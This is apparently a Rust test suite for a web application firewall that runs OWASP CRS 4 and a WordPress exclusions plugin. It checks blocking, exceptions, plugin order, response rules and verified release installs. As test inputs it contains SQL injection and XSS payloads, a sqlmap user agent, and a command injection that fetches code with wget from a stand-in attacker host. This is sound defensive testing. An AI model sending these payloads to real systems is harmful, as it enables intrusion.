//! CRS 4.28 (the release tree in `../shared/crs-4`) and its WordPress exclusions plugin in
//! Debian's libmodsecurity 3.0.9: the CRS 4 settings, plugin order, exceptions by tag,
//! response rules, and installing releases side by side.

use peakguard_waf::install::{self, Verify};
use peakguard_waf::{
    Exception, Excluded, Found, Inspection, Plugin, Request, RuleSet, Settings, Waf,
};
use std::path::{Path, PathBuf};

fn shared() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs-4");
    assert!(
        dir.join("rules").is_dir(),
        "CRS 4 is expected in {} (the workplace's shared folder)",
        dir.display()
    );
    dir
}

fn crs4() -> RuleSet {
    RuleSet::open(&shared(), Found::Site).expect("CRS 4")
}

fn wordpress_plugin() -> Plugin {
    Plugin::open(&shared().join("plugins-available/wordpress-rule-exclusions")).expect("plugin")
}

fn build(edit: impl FnOnce(&mut Settings)) -> Waf {
    let mut s = Settings::new(crs4());
    edit(&mut s);
    Waf::build(s).unwrap_or_else(|e| panic!("{e}"))
}

const UA: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";

fn get(waf: &Waf, uri: &str) -> Inspection {
    send(waf, "GET", uri, &[], b"")
}

fn send(waf: &Waf, method: &str, uri: &str, extra: &[(&[u8], &[u8])], body: &[u8]) -> Inspection {
    let len = body.len().to_string();
    let mut headers: Vec<(&[u8], &[u8])> = vec![
        (b"Host", b"shop.test"),
        (b"User-Agent", UA),
        (b"Accept", b"text/html,application/xhtml+xml"),
        (b"Accept-Language", b"en-US,en;q=0.5"),
    ];
    if !body.is_empty() {
        headers.push((b"Content-Type", b"application/x-www-form-urlencoded"));
        headers.push((b"Content-Length", len.as_bytes()));
    }
    headers.extend_from_slice(extra);
    waf.inspect(&Request {
        client: "203.0.113.9".parse().expect("ip"),
        client_port: 40000,
        method,
        uri,
        version: "1.1",
        headers,
        body,
    })
    .expect("inspected")
}

#[test]
fn crs4_blocks_attacks_passes_pages_and_knows_its_release() {
    let crs = crs4();
    assert_eq!(crs.version.to_string(), "4.28.0");
    assert_eq!(crs.setup_version(), 4280);
    let waf = build(|_| {});
    let ok = get(&waf, "/product/blue-shirt/?color=blue&utm_source=news");
    assert_eq!(ok.block, None, "{ok:?}");
    let sqli = get(&waf, "/?id=1%27%20OR%201%3D1--%20");
    assert_eq!(sqli.block, Some(403), "{sqli:?}");
    assert!(
        sqli.matched
            .iter()
            .any(|m| m.id / 1000 == 942 && m.target.as_deref() == Some("ARGS:id")),
        "{sqli:?}"
    );
    assert!(sqli.score >= 5);
    let xss = send(
        &waf,
        "POST",
        "/wp-comments-post.php",
        &[],
        b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&author=x",
    );
    assert_eq!(xss.block, Some(403), "{xss:?}");
    // A rule CRS 3.3 does not have (932235, unix command injection with arguments).
    let rce = get(&waf, "/?cmd=%3Bwget%20-O%20-%20http%3A%2F%2Fevil.test%2Fx");
    assert_eq!(rce.block, Some(403), "{rce:?}");
}

#[test]
fn paranoia_levels_early_blocking_and_allowed_methods_are_the_tomls() {
    // 920320 (no User-Agent, a NOTICE) is a PL2 rule: blocking at PL1 and executing at
    // PL2 runs and logs it, and never blocks on it.
    let no_ua = |waf: &Waf| {
        waf.inspect(&Request {
            client: "203.0.113.9".parse().expect("ip"),
            client_port: 1,
            method: "GET",
            uri: "/",
            version: "1.1",
            headers: vec![(b"Host", b"shop.test"), (b"Accept", b"text/html")],
            body: b"",
        })
        .expect("inspected")
    };
    let pl1 = build(|_| {});
    assert!(!no_ua(&pl1).matched.iter().any(|m| m.id == 920320));
    let detect_pl2 = build(|s| s.executing_paranoia = Some(2));
    let seen = no_ua(&detect_pl2);
    assert!(seen.matched.iter().any(|m| m.id == 920320), "{seen:?}");
    assert_eq!(seen.block, None, "logged, not blocking");

    // Methods: DELETE is not in CRS's default list; allowed, it passes.
    let delete = |waf: &Waf| send(waf, "DELETE", "/wp-json/wc/v3/products/12", &[], b"");
    assert_eq!(delete(&pl1).block, Some(403));
    let rest = build(|s| {
        s.allowed_methods = Some(
            ["GET", "HEAD", "POST", "OPTIONS", "PUT", "PATCH", "DELETE"]
                .map(String::from)
                .to_vec(),
        )
    });
    assert_eq!(delete(&rest).block, None, "{:?}", delete(&rest));

    // Early blocking: a request whose headers alone reach the threshold is refused in
    // phase 1, before its body is read.
    let early = build(|s| s.early_blocking = true);
    let scanner = send(
        &early,
        "POST",
        "/",
        &[(b"User-Agent", b"sqlmap/1.7")],
        b"a=b",
    );
    assert_eq!(scanner.block, Some(403), "{scanner:?}");
    assert!(
        scanner.matched.iter().all(|m| m.id != 949110),
        "blocked in phase 1 (949111), not 2"
    );
}

#[test]
fn exceptions_by_tag_and_unknown_setup_values() {
    let attack = "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    let tag = |path: Option<&str>, argument: Option<&str>| Exception {
        excluded: Excluded::Tag("attack-xss".into()),
        path: path.map(str::to_string),
        argument: argument.map(str::to_string),
    };
    assert_eq!(get(&build(|_| {}), attack).block, Some(403));
    let everywhere = build(|s| s.exceptions = vec![tag(None, None)]);
    assert_eq!(get(&everywhere, attack).block, None, "every XSS rule off");
    assert_eq!(
        get(&everywhere, "/?id=1%27%20OR%201%3D1--%20").block,
        Some(403),
        "SQL injection still caught"
    );
    let for_q = build(|s| s.exceptions = vec![tag(Some("/search"), Some("q"))]);
    assert_eq!(get(&for_q, attack).block, None);
    assert_eq!(
        get(&for_q, "/search?r=%3Cscript%3Ealert(1)%3C%2Fscript%3E").block,
        Some(403),
        "only for q"
    );
    assert_eq!(
        get(&for_q, "/other?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").block,
        Some(403),
        "only on /search"
    );
    let pl = build(|s| {
        s.exceptions = vec![Exception {
            excluded: Excluded::Tag("paranoia-level/1".into()),
            path: None,
            argument: None,
        }]
    });
    assert_eq!(get(&pl, attack).block, None, "every PL1 rule off");

    let mut s = Settings::new(crs4());
    s.setup = vec![("arg_lenght".into(), "400".into())];
    let err = Waf::build(s).err().expect("a typo");
    assert!(err.to_string().contains("crs_setup.arg_lenght"), "{err}");
    // A known one applies: arguments longer than 10 characters are refused.
    let short = build(|s| s.setup = vec![("arg_length".into(), "10".into())]);
    let long = get(&short, "/?a=0123456789abcdef");
    assert!(long.matched.iter().any(|m| m.id == 920370), "{long:?}");
}

#[test]
fn plugins_load_in_crs_order_and_the_wordpress_plugin_relaxes_editing() {
    // A plugin whose config sets a variable its before file reads, and whose after file
    // removes a rule: each in its place around the CRS.
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path().join("plugins");
    std::fs::create_dir_all(&p).expect("mkdir");
    std::fs::write(
        p.join("order-test-config.conf"),
        "SecAction \"id:9900010,phase:1,pass,nolog,setvar:'tx.order-test-plugin_enabled=1'\"\n",
    )
    .expect("write");
    std::fs::write(
        p.join("order-test-before.conf"),
        "SecRule TX:order-test-plugin_enabled \"@eq 1\" \"id:9900011,phase:1,pass,nolog,ctl:ruleRemoveTargetById=942100;ARGS:sql\"\n",
    )
    .expect("write");
    std::fs::write(
        p.join("order-test-after.conf"),
        "SecRuleRemoveById 941100 941110 941160\n",
    )
    .expect("write");
    let plugin = Plugin::open(dir.path()).expect("plugin");
    assert_eq!(plugin.name, "order-test");
    let with = build(|s| s.plugins = vec![plugin.clone()]);
    let without = build(|_| {});
    let sql = "/?sql=1%27%20OR%201%3D1--%20";
    assert!(get(&without, sql).matched.iter().any(|m| m.id == 942100));
    assert!(
        !get(&with, sql).matched.iter().any(|m| m.id == 942100),
        "config ran before before"
    );
    let xss = "/?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    assert!(get(&without, xss).matched.iter().any(|m| m.id == 941100));
    assert!(
        !get(&with, xss).matched.iter().any(|m| m.id == 941100),
        "after removed it"
    );

    // The WordPress plugin: an editor's post with a script in a code block passes with
    // it, not without. It leaves comments to WordPress (kses filters them): a comment
    // with markup passes; the same on another form is refused.
    let wp = build(|s| s.plugins = vec![wordpress_plugin()]);
    let post = b"post_ID=1&action=editpost&content=%3Cp%3EDemo%3A%3C%2Fp%3E%3Cpre%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E%3C%2Fpre%3E";
    assert_eq!(
        send(&without, "POST", "/wp-admin/post.php", &[], post).block,
        Some(403)
    );
    let saved = send(&wp, "POST", "/wp-admin/post.php", &[], post);
    assert_eq!(saved.block, None, "{saved:?}");
    let markup = b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    assert_eq!(
        send(&wp, "POST", "/wp-comments-post.php", &[], markup).block,
        None
    );
    assert_eq!(send(&wp, "POST", "/contact/", &[], markup).block, Some(403));
}

#[test]
fn response_rules_run_only_in_the_response_set() {
    let request = Request {
        client: "203.0.113.9".parse().expect("ip"),
        client_port: 1,
        method: "GET",
        uri: "/shop/",
        version: "1.1",
        headers: vec![
            (b"Host", b"shop.test"),
            (b"User-Agent", UA),
            (b"Accept", b"text/html"),
        ],
        body: b"",
    };
    let leak = b"<html><body><b>Fatal error</b>:  Uncaught Error: Call to undefined function wc_get_product() in /var/www/html/wp-content/themes/shop/functions.php:12\nStack trace:\n#0 {main}\n  thrown in <b>/var/www/html/wp-content/themes/shop/functions.php</b> on line <b>12</b><br /></body></html>";
    let page = b"<html><body><h1>Blue shirt</h1><p>In stock.</p></body></html>";
    let headers: Vec<(&[u8], &[u8])> = vec![(b"Content-Type", b"text/html; charset=UTF-8")];
    let response = |body: &'static [u8]| peakguard_waf::Response {
        status: 200,
        headers: headers.clone(),
        body,
    };
    let off = build(|_| {});
    assert_eq!(
        off.inspect_response(&request, &response(leak)).expect("ok"),
        None
    );
    let on = build(|s| s.responses = true);
    let found = on
        .inspect_response(&request, &response(leak))
        .expect("ok")
        .expect("inspected");
    assert!(found.block.is_some(), "{found:?}");
    assert!(
        found.matched.iter().any(|m| m.id / 1000 == 953),
        "{found:?}"
    );
    let clean = on
        .inspect_response(&request, &response(page))
        .expect("ok")
        .expect("inspected");
    assert_eq!(clean.block, None, "{clean:?}");
    // The request rules are not in the response set: an attack in the URL is the request
    // set's business.
    assert_eq!(get(&on, "/?id=1%27%20OR%201%3D1--%20").block, Some(403));
}

/// A CRS release tarball as the CRS project publishes it (`coreruleset-VERSION/…`), made of
/// the shared tree; `edit` changes the staged copy first.
fn tarball(at: &Path, version: &str, edit: impl FnOnce(&Path)) -> PathBuf {
    let top = at.join(format!("coreruleset-{version}"));
    let src = shared();
    std::fs::create_dir_all(&top).expect("mkdir");
    for part in [
        "rules",
        "plugins",
        "crs-setup.conf.example",
        "LICENSE",
        "README.md",
    ] {
        let copied = std::process::Command::new("cp")
            .arg("-r")
            .arg(src.join(part))
            .arg(top.join(part))
            .status()
            .is_ok_and(|s| s.success());
        assert!(copied, "cp {part}");
    }
    if version != "4.28.0" {
        let init = top.join("rules/REQUEST-901-INITIALIZATION.conf");
        let text = std::fs::read_to_string(&init).expect("read");
        std::fs::write(
            &init,
            text.replace("OWASP_CRS/4.28.0", &format!("OWASP_CRS/{version}")),
        )
        .expect("write");
    }
    edit(&top);
    let file = at.join(format!("coreruleset-{version}-minimal.tar.gz"));
    let ok = std::process::Command::new("tar")
        .arg("czf")
        .arg(&file)
        .arg("-C")
        .arg(at)
        .arg(format!("coreruleset-{version}"))
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "tar");
    std::fs::remove_dir_all(&top).expect("clean");
    file
}

fn sha256(file: &Path) -> String {
    let out = std::process::Command::new("sha256sum")
        .arg(file)
        .output()
        .expect("sha256sum");
    String::from_utf8_lossy(&out.stdout)[..64].to_string()
}

#[test]
fn releases_install_side_by_side_verified_checked_and_roll_back() {
    let work = tempfile::tempdir().expect("tmp");
    let home = work.path().join("crs");
    let v1 = tarball(work.path(), "4.28.0", |_| {});
    let ok = |_: &RuleSet| Ok(());

    let wrong = Verify {
        sha256: Some("0".repeat(64)),
        ..Verify::default()
    };
    let err = install::install_crs(&home, &v1, &wrong, &ok).expect_err("wrong hash");
    assert!(err.to_string().contains("not installed"), "{err}");
    assert_eq!(install::releases(&home).current, None, "nothing changed");

    let right = Verify {
        sha256: Some(sha256(&v1)),
        ..Verify::default()
    };
    let (first, checks) = install::install_crs(&home, &v1, &right, &ok).expect("installed");
    assert_eq!(first.version.to_string(), "4.28.0");
    assert!(checks[0].contains("matches"));
    assert!(
        home.join("4.28.0/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf")
            .is_file()
    );
    assert_eq!(
        RuleSet::locate(None, &home).expect("found").found,
        Found::Installed
    );

    // A release that does not load is refused; the current one stays.
    let broken = tarball(work.path(), "4.28.1", |top| {
        let f = top.join("rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf");
        let mut text = std::fs::read_to_string(&f).expect("read");
        text.push_str("\nSecRuleNoSuchDirective ARGS\n");
        std::fs::write(&f, text).expect("write");
    });
    let err = install::install_crs(
        &home,
        &broken,
        &Verify {
            sha256: Some(sha256(&broken)),
            ..Verify::default()
        },
        &ok,
    )
    .expect_err("does not load");
    assert!(err.to_string().contains("does not load"), "{err}");
    let r = install::releases(&home);
    assert_eq!(r.current.map(|v| v.to_string()).as_deref(), Some("4.28.0"));
    assert_eq!(r.all.len(), 1, "{r:?}");
    // The caller's check (the sites' settings) can refuse it too.
    let v2 = tarball(work.path(), "4.28.1", |_| {});
    let refuse = |_: &RuleSet| Err("site \"shop\": no".to_string());
    let unverified = Verify {
        unverified: true,
        ..Verify::default()
    };
    assert!(install::install_crs(&home, &v2, &unverified, &refuse).is_err());
    assert_eq!(install::releases(&home).all.len(), 1);

    let (second, _) = install::install_crs(&home, &v2, &unverified, &ok).expect("second");
    assert_eq!(
        second.previous.map(|v| v.to_string()).as_deref(),
        Some("4.28.0")
    );
    let r = install::releases(&home);
    assert_eq!(r.current.map(|v| v.to_string()).as_deref(), Some("4.28.1"));
    assert_eq!(r.previous.map(|v| v.to_string()).as_deref(), Some("4.28.0"));
    assert_eq!(
        RuleSet::locate(None, &home)
            .expect("found")
            .version
            .to_string(),
        "4.28.1"
    );

    let (now, was) = install::rollback(&home).expect("rollback");
    assert_eq!(
        (now.to_string(), was.to_string()),
        ("4.28.0".into(), "4.28.1".into())
    );
    assert_eq!(
        RuleSet::locate(None, &home)
            .expect("found")
            .version
            .to_string(),
        "4.28.0"
    );
    // No staging left behind.
    let leftovers: Vec<_> = std::fs::read_dir(&home)
        .expect("home")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // The WordPress plugin, from its folder.
    let (plugin, _) = install::install_plugin(
        &home,
        &shared().join("plugins-available/wordpress-rule-exclusions"),
        &unverified,
        Some(&RuleSet::locate(None, &home).expect("crs")),
    )
    .expect("plugin");
    assert_eq!(plugin.name, "wordpress-rule-exclusions");
    assert_eq!(
        install::releases(&home).plugins,
        vec!["wordpress-rule-exclusions"]
    );
}

#[test]
fn a_signed_release_is_checked_with_gpgv() {
    let work = tempfile::tempdir().expect("tmp");
    let gnupg = work.path().join("gnupg");
    std::fs::create_dir_all(&gnupg).expect("mkdir");
    let gpg = |args: &[&str]| {
        let out = std::process::Command::new("gpg")
            .arg("--homedir")
            .arg(&gnupg)
            .args(["--batch", "--pinentry-mode", "loopback", "--passphrase", ""])
            .args(args)
            .output()
            .expect("gpg (apt-get install gnupg)");
        assert!(
            out.status.success(),
            "gpg {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };
    gpg(&[
        "--quick-gen-key",
        "CRS test signer <crs@example.invalid>",
        "ed25519",
        "sign",
        "1d",
    ]);
    let keyring = work.path().join("crs.gpg");
    std::fs::write(&keyring, gpg(&["--export"])).expect("keyring");
    let release = tarball(work.path(), "4.28.0", |_| {});
    let sig = PathBuf::from(format!("{}.asc", release.display()));
    gpg(&[
        "--armor",
        "--detach-sign",
        "--output",
        &sig.display().to_string(),
        &release.display().to_string(),
    ]);
    let home = work.path().join("crs");
    let with_key = Verify {
        keyring: Some(keyring.clone()),
        ..Verify::default()
    };
    let (installed, checks) =
        install::install_crs(&home, &release, &with_key, &|_| Ok(())).expect("signed");
    assert_eq!(installed.version.to_string(), "4.28.0");
    assert!(checks[0].contains("signature"), "{checks:?}");

    // Another file with that signature: refused.
    let other = tarball(work.path(), "4.28.2", |_| {});
    let err = install::install_crs(
        &home,
        &other,
        &Verify {
            signature: Some(sig),
            keyring: Some(keyring),
            ..Verify::default()
        },
        &|_| Ok(()),
    )
    .expect_err("bad signature");
    assert!(err.to_string().contains("does not verify"), "{err}");
    assert_eq!(
        install::releases(&home)
            .current
            .map(|v| v.to_string())
            .as_deref(),
        Some("4.28.0")
    );
}
